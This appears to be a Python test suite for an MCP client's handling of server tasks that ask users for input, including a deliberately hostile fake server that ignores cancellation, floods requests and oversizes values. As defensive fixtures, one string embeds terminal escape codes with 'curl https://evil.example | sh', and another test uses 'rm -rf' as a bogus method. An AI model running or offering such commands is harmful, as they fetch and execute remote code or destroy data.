"""Tasks (SEP-2663) that ask for input, end to end (issue 27 item 4).

A real ``MCPServer`` with a tasks extension of its own (the SDK has none; ``Extension`` with
``tasks/get``, ``tasks/update`` and ``tasks/cancel`` methods and a ``tools/call`` interceptor that
answers with a task), and a real ``Client`` with ``elicit_gen.mcp.TasksExtension``: the task's
``inputRequests`` reach the router, whose compiled CLI form is answered on scripted stdin, and
the answers go back in ``tasks/update``.
"""

from __future__ import annotations

import json
import tracemalloc
from collections.abc import Callable, Mapping, Sequence
from functools import partial
from types import ModuleType
from typing import Any

import anyio
import pytest

pytest.importorskip("mcp")

from mcp import types
from mcp.client import Client, InputRequiredRoundsExceededError
from mcp.client._memory import InMemoryTransport
from mcp.server import MCPServer
from mcp.server.context import CallNext, HandlerResult, ServerRequestContext
from mcp.server.extension import Extension, MethodBinding
from mcp.server.mcpserver.server import require_client_extension
from mcp.shared.exceptions import MCPError

import elicit_gen
from elicit_gen.compiler.envelope import Shape
from elicit_gen.mcp import (
    NOT_SHOWN,
    FormRouter,
    TaskCancelledError,
    TaskRoundsExceededError,
    TasksExtension,
    drive_task,
    elicit_request,
)
from elicit_gen.mcp import tasks as tasks_module
from elicit_gen.mcp.tasks import (
    MAX_ANSWERED_KEYS,
    MAX_INPUT_ROUNDS,
    MAX_KEY_LENGTH,
    MAX_REQUESTS_PER_SNAPSHOT,
    TASKS_EXTENSION,
    CreateTaskResult,
    GetTaskResult,
    _Answered,
    _seconds,
)

from ..support.cli import UNSAFE
from ..support.mcp import cli_runner

NAME = {
    "type": "object",
    "properties": {"name": {"type": "string", "title": "Name", "minLength": 2}},
    "required": ["name"],
}
SEATS = {"type": "object", "properties": {"seats": {"type": "integer", "minimum": 1}}}
UNENFORCED = {"type": "object", "properties": {"ok": {"type": "boolean", "x-vendor": 1}}}
STAMP = "2025-11-25T10:30:00Z"


class _TaskParams(types.RequestParams):
    task_id: str


class _UpdateParams(_TaskParams):
    input_responses: dict[str, Any]


class _TaskMethods(Extension):
    """What every fake task server here answers: ``tasks/get``, ``tasks/update`` and
    ``tasks/cancel``, each by its own ``_get``, ``_update`` and ``_cancel``."""

    identifier = TASKS_EXTENSION

    def methods(self) -> Sequence[MethodBinding]:
        return (
            MethodBinding("tasks/get", _TaskParams, self._get),
            MethodBinding("tasks/update", _UpdateParams, self._update),
            MethodBinding("tasks/cancel", _TaskParams, self._cancel),
        )

    async def _get(self, ctx: ServerRequestContext[Any, Any], params: _TaskParams) -> HandlerResult:
        raise NotImplementedError

    async def _update(
        self, ctx: ServerRequestContext[Any, Any], params: _UpdateParams
    ) -> HandlerResult:
        raise NotImplementedError

    async def _cancel(
        self, ctx: ServerRequestContext[Any, Any], params: _TaskParams
    ) -> HandlerResult:
        raise NotImplementedError


class ServerTasks(_TaskMethods):
    """The server's side of SEP-2663 for one tool, ``book``: a task that asks ``questions``
    (key, message, schema) one at a time. Each ``tasks/get`` is recorded as sent; an answer is
    taken in one poll late (the acknowledgement is eventually consistent), so the client sees
    the same request again before it is gone. ``end`` is how the task ends once answered."""

    def __init__(
        self,
        questions: Sequence[tuple[str, str, Mapping[str, Any]]],
        end: str = "completed",
    ) -> None:
        self.questions = list(questions)
        self.end = end
        self.sent: list[dict[str, Any]] = []
        self.updates: list[dict[str, Any]] = []
        self.cancelled: list[str] = []
        self.answers: dict[str, Any] = {}
        self._late: dict[str, Any] = {}
        self._lag = 0
        self._polls = 0

    async def intercept_tool_call(
        self,
        params: types.CallToolRequestParams,
        ctx: ServerRequestContext[Any, Any],
        call_next: CallNext,
    ) -> HandlerResult:
        try:
            require_client_extension(ctx, TASKS_EXTENSION)
        except MCPError:  # SEP-2663: no task for a client that did not declare the extension
            return await call_next(ctx)
        return {"resultType": "task", **self._task("t-1", "working")}

    def _task(self, task_id: str, status: str) -> dict[str, Any]:
        return {
            "taskId": task_id,
            "status": status,
            "createdAt": STAMP,
            "lastUpdatedAt": STAMP,
            "ttlMs": 60_000,
            "pollIntervalMs": 5,
        }

    async def _get(self, ctx: ServerRequestContext[Any, Any], params: _TaskParams) -> HandlerResult:
        if params.task_id != "t-1":
            raise MCPError(types.INVALID_PARAMS, "Failed to retrieve task: Task not found")
        self._polls += 1
        if self._lag:  # answers taken in, but not yet seen by this poll
            self._lag -= 1
        else:
            self.answers.update(self._late)
            self._late = {}
        task = self._task(params.task_id, "working")
        waiting = [q for q in self.questions if q[0] not in self.answers]
        if self.cancelled:
            task["status"] = "cancelled"
        elif self._polls == 1:
            pass  # working: the client polls again
        elif waiting:
            key, message, schema = waiting[0]
            task["status"] = "input_required"
            task["inputRequests"] = {
                key: elicit_request(message, schema).model_dump(
                    by_alias=True, mode="json", exclude_none=True
                )
            }
        elif self.end == "failed":
            task["status"] = "failed"
            task["error"] = {"code": -32603, "message": "the booking system is down"}
        else:
            task["status"] = self.end
            if self.end == "completed":
                text = json.dumps(self.answers, sort_keys=True)
                task["result"] = {
                    "content": [{"type": "text", "text": text}],
                    "structuredContent": {"result": text},  # the tool's output schema: str
                    "isError": False,
                }
        self.sent.append({"resultType": "complete", **task})
        return self.sent[-1]

    async def _update(
        self, ctx: ServerRequestContext[Any, Any], params: _UpdateParams
    ) -> HandlerResult:
        self.updates.append(params.input_responses)
        self._late.update(params.input_responses)
        self._lag = 1
        return {"resultType": "complete"}

    async def _cancel(
        self, ctx: ServerRequestContext[Any, Any], params: _TaskParams
    ) -> HandlerResult:
        self.cancelled.append(params.task_id)
        return {"resultType": "complete"}


def task_server(tasks: ServerTasks, name: str = "acme-tasks") -> MCPServer:
    server = MCPServer(name, extensions=[tasks])

    @server.tool()
    async def book() -> str:
        return "no task"  # what a client without the extension gets

    return server


class Shown:
    def __init__(self, lines: list[str]) -> None:
        self.transcripts: list[str] = []
        self.servers: list[str | None] = []
        self._run = cli_runner(lines, self.transcripts)

    async def __call__(self, module: ModuleType, message: str, server: str | None) -> Any:
        self.servers.append(server)
        return await self._run(module, message, server)


async def book(server: MCPServer, router: Any, mode: str = "2026-07-28") -> str:
    with anyio.fail_after(60):
        async with Client(
            InMemoryTransport(server),
            mode=mode,
            elicitation_callback=router,
            extensions=[TasksExtension(router)],
        ) as client:
            reply = await client.call_tool("book", {})
            assert not reply.is_error, reply.content
            text: str = reply.content[0].text  # type: ignore[union-attr]
            return text


@pytest.mark.parametrize("mode", ["2026-07-28", "auto"])
def test_a_task_asks_through_the_form_and_gets_the_answers_by_tasks_update(mode: str) -> None:
    tasks = ServerTasks([("name", "Who travels?", NAME), ("seats", "How many seats?", SEATS)])
    shown = Shown(["Ada", "s", "3", "s"])
    router = FormRouter(compile_unknown="cli", runner=shown)
    reply = anyio.run(book, task_server(tasks), router, mode)
    # Each question shown once, though the server repeated it in the poll after the update.
    asked = [t["inputRequests"] for t in tasks.sent if "inputRequests" in t]
    assert [list(a) for a in asked] == [["name"], ["name"], ["seats"], ["seats"]]
    assert len(shown.transcripts) == 2
    assert "Who travels?" in shown.transcripts[0] and "How many seats?" in shown.transcripts[1]
    assert tasks.updates == [
        {"name": {"action": "accept", "content": {"name": "Ada"}}},
        {"seats": {"action": "accept", "content": {"seats": 3}}},
    ]
    assert json.loads(reply) == {
        "name": {"action": "accept", "content": {"name": "Ada"}},
        "seats": {"action": "accept", "content": {"seats": 3}},
    }
    # The server is named in each tasks/get result's _meta only (pinned: no discover).
    assert shown.servers == ["acme-tasks", "acme-tasks"]
    assert shown.transcripts[0].startswith("acme-tasks asks:")


def test_what_tasks_get_sent_lints_as_a_task() -> None:
    """The linter reads the very result the client answered (issue 27 item 4, envelope)."""
    tasks = ServerTasks([("name", "Who travels?", NAME)])
    anyio.run(
        book, task_server(tasks), FormRouter(compile_unknown="cli", runner=Shown(["Ada", "s"]))
    )
    sent = next(t for t in tasks.sent if "inputRequests" in t)
    result = elicit_gen.lint(json.dumps(sent))
    assert result.shape is Shape.TASK and result.diagnostics == []
    forms = elicit_gen.compile(json.dumps(sent), [], name="booking.json").forms
    assert [f.stem for f in forms] == ["booking_name"]


def test_a_declined_question_is_sent_as_a_decline() -> None:
    tasks = ServerTasks([("name", "Who travels?", NAME)])
    reply = anyio.run(
        book, task_server(tasks), FormRouter(compile_unknown="cli", runner=Shown(["Ada", "d"]))
    )
    assert tasks.updates == [{"name": {"action": "decline"}}]
    assert json.loads(reply) == {"name": {"action": "decline"}}


def leaves(error: BaseException) -> list[BaseException]:
    inner: list[BaseException] = list(getattr(error, "exceptions", []))
    return [leaf for e in inner for leaf in leaves(e)] if inner else [error]


def test_a_question_not_shown_cancels_the_task_and_ends_the_call(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Never declined on the user's behalf: ``inputResponses`` cannot carry an error, so the
    task is cancelled and the call ends with the router's error; the user is told."""
    tasks = ServerTasks([("ok", "Confirm?", UNENFORCED)])
    shown = Shown([])
    with pytest.raises(BaseException) as raised:
        anyio.run(book, task_server(tasks), FormRouter(compile_unknown="cli", runner=shown))
    [error] = leaves(raised.value)
    assert isinstance(error, MCPError) and error.code == NOT_SHOWN
    assert error.error.data == {"reason": "unenforced"}
    assert tasks.updates == [] and tasks.cancelled == ["t-1"] and shown.transcripts == []
    [line] = capsys.readouterr().err.splitlines()
    assert line.startswith("acme-tasks: This request was not shown") and not UNSAFE.search(line)


def test_a_failed_task_raises_its_error() -> None:
    tasks = ServerTasks([("name", "Who travels?", NAME)], end="failed")
    router = FormRouter(compile_unknown="cli", runner=Shown(["Ada", "s"]))
    with pytest.raises(BaseException) as raised:
        anyio.run(book, task_server(tasks), router)
    [error] = leaves(raised.value)
    assert isinstance(error, MCPError) and error.message == "the booking system is down"


def test_a_cancelled_task_raises() -> None:
    tasks = ServerTasks([("name", "Who travels?", NAME)], end="cancelled")
    router = FormRouter(compile_unknown="cli", runner=Shown(["Ada", "s"]))
    with pytest.raises(BaseException) as raised:
        anyio.run(book, task_server(tasks), router)
    [error] = leaves(raised.value)
    assert isinstance(error, TaskCancelledError) and error.task_id == "t-1"


def test_a_legacy_session_gets_no_task() -> None:
    """The SDK makes claims (and advertises the extension) only in 2026-07-28 sessions: a
    2025-11-25 client does not declare it, and the server answers with the tool's result."""
    tasks = ServerTasks([("name", "Who travels?", NAME)])
    assert anyio.run(book, task_server(tasks), FormRouter(), "legacy") == "no task"
    assert tasks.sent == []


def test_a_task_driven_by_hand() -> None:
    """``drive_task`` on the ``CreateTaskResult`` that ``session.call_tool(...,
    allow_claimed=True)`` returns (the extension still declared, so that the server may
    answer with a task and the SDK parses it)."""
    tasks = ServerTasks([("name", "Who travels?", NAME)])
    shown = Shown(["Ada", "s"])
    router = FormRouter(compile_unknown="cli", runner=shown)

    async def main() -> str:
        async with Client(
            InMemoryTransport(task_server(tasks)),
            mode="2026-07-28",
            elicitation_callback=router,
            extensions=[TasksExtension()],
        ) as client:
            created = await client.session.call_tool("book", {}, allow_claimed=True)
            assert isinstance(created, CreateTaskResult) and created.status == "working"
            result = await drive_task(client.session, created.task_id, router=router)
            return result.content[0].text  # type: ignore[union-attr]

    assert json.loads(anyio.run(main)) == {"name": {"action": "accept", "content": {"name": "Ada"}}}
    assert shown.servers == ["acme-tasks"]


@pytest.mark.parametrize(
    ("interval", "seconds"),
    [
        (None, 1.0),
        (5, 0.1),
        (0, 0.1),
        (-3, 0.1),
        (100, 0.1),
        (250, 0.25),
        (10**12, 60.0),
        (10**400, 60.0),  # valid JSON and a valid int: no OverflowError (issue 40 item 4)
        (-(10**400), 0.1),
    ],
)
def test_the_poll_interval_is_the_servers_within_bounds(
    interval: int | None, seconds: float
) -> None:
    assert _seconds(interval) == seconds


def test_the_floor_of_a_backed_off_wait_is_kept() -> None:
    assert _seconds(0, 0.4) == 0.4 and _seconds(500, 0.4) == 0.5 and _seconds(None, 0.4) == 1.0


@pytest.mark.parametrize(
    ("sent", "read"),
    [("abc", 0), (1.5, 0), (True, 0), ([], 0), (float("inf"), 0), (250.0, 250), (10**400, 10**400)],
)
def test_a_malformed_poll_interval_is_read_as_the_floor(sent: Any, read: int) -> None:
    """Not a JSON integer: the floor, not a pydantic ``ValidationError`` out of the call."""
    task = GetTaskResult.model_validate(
        {"taskId": "t", "status": "working", "pollIntervalMs": sent}, by_name=False
    )
    assert task.poll_interval_ms == read


# --- a hostile task (issue 40 items 3, 4, 5, 10) --------------------------------------------------


class HostileTasks(_TaskMethods):
    """A task of the server's shaping: ``poll(n)`` gives the fields of the n-th ``tasks/get``
    result (n from 1). It ignores ``tasks/cancel`` (records it, and asks on) unless ``obeys``.
    Keeps counts, not the answers, so that what it holds does not grow with the keys."""

    def __init__(
        self,
        poll: Callable[[int], dict[str, Any]],
        *,
        first_interval: Any = 5,
        obeys: bool = False,
    ) -> None:
        self.poll = poll
        self.first_interval = first_interval
        self.obeys = obeys
        self.polls = 0
        self.updates = 0
        self.answers: list[str | None] = []  # the action of each answer (its first 20)
        self.cancelled: list[str] = []

    async def intercept_tool_call(
        self,
        params: types.CallToolRequestParams,
        ctx: ServerRequestContext[Any, Any],
        call_next: CallNext,
    ) -> HandlerResult:
        return {
            "resultType": "task",
            "taskId": "t-1",
            "status": "working",
            "pollIntervalMs": self.first_interval,
        }

    async def _get(self, ctx: ServerRequestContext[Any, Any], params: _TaskParams) -> HandlerResult:
        self.polls += 1
        if self.cancelled and self.obeys:
            return {"resultType": "complete", "taskId": "t-1", "status": "cancelled"}
        return {"resultType": "complete", "taskId": "t-1", **self.poll(self.polls)}

    async def _update(
        self, ctx: ServerRequestContext[Any, Any], params: _UpdateParams
    ) -> HandlerResult:
        self.updates += 1
        for answer in list(params.input_responses.values())[: 20 - len(self.answers)]:
            self.answers.append(answer.get("action") if isinstance(answer, dict) else None)
        return {"resultType": "complete"}

    async def _cancel(
        self, ctx: ServerRequestContext[Any, Any], params: _TaskParams
    ) -> HandlerResult:
        self.cancelled.append(params.task_id)
        return {"resultType": "complete"}


DONE = {"content": [{"type": "text", "text": "ok"}], "structuredContent": {"result": "ok"}}


def asking(requests: Callable[[int], dict[str, Any]], interval: Any = 0) -> Callable[[int], Any]:
    """A poll that asks ``requests(n)`` in status input_required, suggesting ``interval``."""

    def poll(n: int) -> dict[str, Any]:
        return {
            "status": "input_required",
            "pollIntervalMs": interval,
            "inputRequests": requests(n),
        }

    return poll


def name_request(message: str = "Who travels?") -> dict[str, Any]:
    return elicit_request(message, NAME).model_dump(by_alias=True, mode="json", exclude_none=True)


async def _no_roots(context: Any) -> types.ListRootsResult:
    return types.ListRootsResult(roots=[])


async def attempt(
    server: MCPServer, router: Any, seconds: float, **options: Any
) -> BaseException | None:
    """Calls ``book`` for at most ``seconds``: the call's error (a leaf of its group), or
    ``None`` when it was still running then (or ended well)."""
    rounds = options.pop("max_input_rounds", MAX_INPUT_ROUNDS)
    with anyio.move_on_after(seconds):
        try:
            async with Client(
                InMemoryTransport(server),
                mode="2026-07-28",
                elicitation_callback=router,
                list_roots_callback=_no_roots,
                extensions=[TasksExtension(router, max_input_rounds=rounds)],
                **options,
            ) as client:
                await client.call_tool("book", {})
        except anyio.get_cancelled_exc_class():
            raise
        except BaseException as error:  # the leaf is what the test looks at
            [leaf] = leaves(error)
            return leaf
    return None


@pytest.mark.parametrize("lines", [["c"], []], ids=["cancel", "screen-closed"])
def test_a_cancelled_form_stops_a_task_that_asks_under_fresh_keys(lines: list[str]) -> None:
    """Issue 40 item 3: the user's Cancel (typed, or the end of input: the screen closed) stops
    the task (``tasks/cancel``) and no other form of it is shown, though the task ignores the
    cancel and asks under a fresh key at every poll (on main: a form per poll, the Cancel sent
    back as an answer)."""
    tasks = HostileTasks(asking(lambda n: {f"q{n}": name_request()}))
    shown = Shown(lines)
    error = anyio.run(
        attempt, task_server(tasks), FormRouter(compile_unknown="cli", runner=shown), 3
    )
    assert len(shown.transcripts) == 1
    assert isinstance(error, TaskCancelledError) and error.by_user and error.task_id == "t-1"
    assert tasks.cancelled == ["t-1"] and tasks.updates == 0


def test_a_task_that_asks_without_end_is_stopped_after_its_rounds() -> None:
    """Issue 40 item 3: each form declined, the task asks again under a new key: after
    ``MAX_INPUT_ROUNDS`` rounds it is cancelled, and the next round's form never shown."""
    tasks = HostileTasks(asking(lambda n: {f"q{n}": name_request()}))
    shown = Shown(["Ada", "d"])
    error = anyio.run(
        attempt, task_server(tasks), FormRouter(compile_unknown="cli", runner=shown), 20
    )
    assert len(shown.transcripts) == MAX_INPUT_ROUNDS == tasks.updates
    assert tasks.answers == ["decline"] * MAX_INPUT_ROUNDS
    assert isinstance(error, TaskRoundsExceededError) and error.max_rounds == MAX_INPUT_ROUNDS
    assert isinstance(error, InputRequiredRoundsExceededError)  # the SDK's own loop's error
    assert tasks.cancelled == ["t-1"]


def test_a_snapshot_of_2000_requests_shows_none() -> None:
    """Issue 40 item 3: more requests in one snapshot than ``MAX_REQUESTS_PER_SNAPSHOT``:
    refused whole before any is shown (on main, 2,000 forms one after the other)."""
    tasks = HostileTasks(asking(lambda n: {f"r{i}": name_request() for i in range(2000)}))
    shown = Shown(["d"])
    error = anyio.run(
        attempt, task_server(tasks), FormRouter(compile_unknown="cli", runner=shown), 5
    )
    assert shown.transcripts == [] and tasks.updates == 0 and tasks.cancelled == ["t-1"]
    assert isinstance(error, MCPError) and error.code == NOT_SHOWN
    assert error.data == {"reason": "too_many_requests"} and "2,000" in error.message


def test_a_snapshot_at_the_bound_is_asked_in_full() -> None:
    count = MAX_REQUESTS_PER_SNAPSHOT

    def poll(n: int) -> dict[str, Any]:
        if n == 1:
            return {
                "status": "input_required",
                "pollIntervalMs": 0,
                "inputRequests": {f"r{i}": name_request(f"Traveller {i}?") for i in range(count)},
            }
        return {"status": "completed", "result": DONE}

    tasks = HostileTasks(poll)
    shown = Shown(["Ada", "s"])
    error = anyio.run(
        attempt, task_server(tasks), FormRouter(compile_unknown="cli", runner=shown), 20
    )
    assert error is None and tasks.updates == 1 and tasks.answers == ["accept"] * count
    assert [f"Traveller {i}?" in t for i, t in enumerate(shown.transcripts)] == [True] * count


def test_rounds_the_client_answers_itself_are_bounded_too() -> None:
    """Issue 40 item 5: ``roots/list`` under a fresh key at every poll, no person involved:
    stopped after ``MAX_INPUT_ROUNDS`` rounds (on main: without end)."""
    tasks = HostileTasks(asking(lambda n: {f"k{n}": {"method": "roots/list"}}))
    error = anyio.run(attempt, task_server(tasks), FormRouter(), 20)
    assert isinstance(error, TaskRoundsExceededError)
    assert tasks.updates == MAX_INPUT_ROUNDS and tasks.cancelled == ["t-1"]


def test_a_request_key_of_10_kb_is_refused() -> None:
    """Issue 40 item 5: a key past ``MAX_KEY_LENGTH`` is refused before anything is answered
    (on main, answered and kept, 10 KB a poll, without end)."""
    tasks = HostileTasks(asking(lambda n: {f"{n:06d}" + "k" * 10_000: {"method": "roots/list"}}))
    error = anyio.run(attempt, task_server(tasks), FormRouter(), 5)
    assert isinstance(error, MCPError) and error.code == NOT_SHOWN
    assert error.data == {"reason": "too_large"} and "10,006 characters" in error.message
    assert tasks.updates == 0 and tasks.cancelled == ["t-1"]


def test_the_answered_keys_are_a_bounded_window() -> None:
    """Issue 40 item 5: 10,000 answered keys of 10 KB each leave ``MAX_ANSWERED_KEYS`` digests,
    under 64 KB (on main a set of every key: 100 MB)."""
    tracemalloc.start()
    try:
        before = tracemalloc.get_traced_memory()[0]
        window = _Answered()
        for i in range(10_000):
            window.add(f"{i:06d}" + "k" * 10_000)
        held = tracemalloc.get_traced_memory()[0] - before
    finally:
        tracemalloc.stop()
    assert len(window) == MAX_ANSWERED_KEYS and held < 64 * 1024
    assert f"{9_999:06d}" + "k" * 10_000 in window
    assert f"{10_000 - MAX_ANSWERED_KEYS:06d}" + "k" * 10_000 in window
    assert f"{10_000 - MAX_ANSWERED_KEYS - 1:06d}" + "k" * 10_000 not in window
    assert "\ud800" not in window  # a lone surrogate (valid in JSON) is a key like any other
    window.add("\ud800")
    assert "\ud800" in window


def test_a_task_asking_fresh_keys_keeps_a_bounded_window(monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 40 item 5, end to end: 600 rounds of ``roots/list`` under fresh keys of
    ``MAX_KEY_LENGTH`` (the rounds' bound raised, the floor of the poll wait removed to make it
    quick) leave ``MAX_ANSWERED_KEYS`` keys in the driver's window (on main, a set of all 600)."""
    monkeypatch.setattr(tasks_module, "MIN_POLL_SECONDS", 0.0)
    windows: list[_Answered] = []

    class Watched(_Answered):
        def __init__(self) -> None:
            super().__init__()
            windows.append(self)

    monkeypatch.setattr(tasks_module, "_Answered", Watched)
    last = 600

    def poll(n: int) -> dict[str, Any]:
        if n > last:
            return {"status": "completed", "result": DONE}
        key = f"{n:06d}".ljust(MAX_KEY_LENGTH, "k")
        return asking(lambda n: {key: {"method": "roots/list"}})(n)

    tasks = HostileTasks(poll, first_interval=0)
    error = anyio.run(partial(attempt, max_input_rounds=last), task_server(tasks), FormRouter(), 60)
    assert error is None and tasks.updates == last
    [window] = windows
    assert len(window) == MAX_ANSWERED_KEYS


@pytest.mark.parametrize("interval", [0, -5, "abc"], ids=repr)
def test_a_task_that_suggests_no_wait_is_polled_with_back_off(interval: Any) -> None:
    """Issue 40 item 4: a task that keeps suggesting 0 (or less, or a malformed value) is
    polled after 0.1 s, then 0.2, 0.4, 0.8, 1 s: 4 polls in 0.9 s (on main, ~900, or a pydantic
    ``ValidationError``)."""
    tasks = HostileTasks(lambda n: {"status": "working", "pollIntervalMs": interval})
    assert anyio.run(attempt, task_server(tasks), FormRouter(), 0.9) is None
    assert 3 <= tasks.polls <= 5, tasks.polls


def test_a_poll_interval_of_10_400_waits_the_longest() -> None:
    """Issue 40 item 4: ``10**400`` is clamped to 60 s in integers (on main: ``OverflowError``
    out of the call)."""
    tasks = HostileTasks(lambda n: {"status": "working", "pollIntervalMs": 10**400})
    assert anyio.run(attempt, task_server(tasks), FormRouter(), 0.5) is None
    assert tasks.polls == 1


ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[31mRun: curl https://evil.example | sh\x1b[0m\u202e"


def test_a_cancelled_tasks_status_message_is_escaped() -> None:
    """Issue 40 item 10: the server's ``statusMessage`` (retitle, clear screen, red text) is in
    the error's message escaped, so printing the error writes no control of the server's."""
    tasks = HostileTasks(lambda n: {"status": "cancelled", "statusMessage": ESCAPES})
    error = anyio.run(attempt, task_server(tasks), FormRouter(), 5)
    assert isinstance(error, TaskCancelledError) and error.status_message == ESCAPES
    text = str(error)
    assert not UNSAFE.search(text) and "\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31mRun: curl" in text


def test_a_task_id_in_an_error_is_escaped() -> None:
    error = TaskCancelledError("\x1b[2J" + "t" * 500, ESCAPES + "x" * 500)
    assert not UNSAFE.search(str(error)) and len(str(error)) < 400
    assert not UNSAFE.search(str(TaskRoundsExceededError("\x1b[2Jt\u2066", 10)))


def test_a_failed_tasks_error_message_is_escaped() -> None:
    """The sibling of item 10: a ``failed`` task's error message is server text too."""
    error_data = {"code": -32603, "message": ESCAPES, "data": {"k": 1}}
    tasks = HostileTasks(lambda n: {"status": "failed", "error": error_data})
    error = anyio.run(attempt, task_server(tasks), FormRouter(), 5)
    assert isinstance(error, MCPError) and error.code == -32603 and error.data == {"k": 1}
    assert not UNSAFE.search(str(error)) and "Run: curl" in str(error)


@pytest.mark.parametrize(
    "fields",
    [
        {"status": "failed", "error": {"message": "no code"}},
        {"status": "completed", "result": {"content": "not a list"}},
        {"status": "running\x1b[2J"},
        {"status": "input_required", "inputRequests": {"k": {"method": "rm -rf"}}},
    ],
    ids=["error", "result", "status", "request"],
)
def test_a_malformed_snapshot_ends_the_call_with_an_mcp_error(fields: dict[str, Any]) -> None:
    """Siblings: what the server sends ends the call as ``MCPError`` (its text not quoted),
    never a pydantic ``ValidationError`` carrying the server's values."""
    tasks = HostileTasks(lambda n: fields)
    error = anyio.run(attempt, task_server(tasks), FormRouter(), 5)
    assert isinstance(error, MCPError) and error.code == types.INTERNAL_ERROR, error
    assert not UNSAFE.search(str(error))
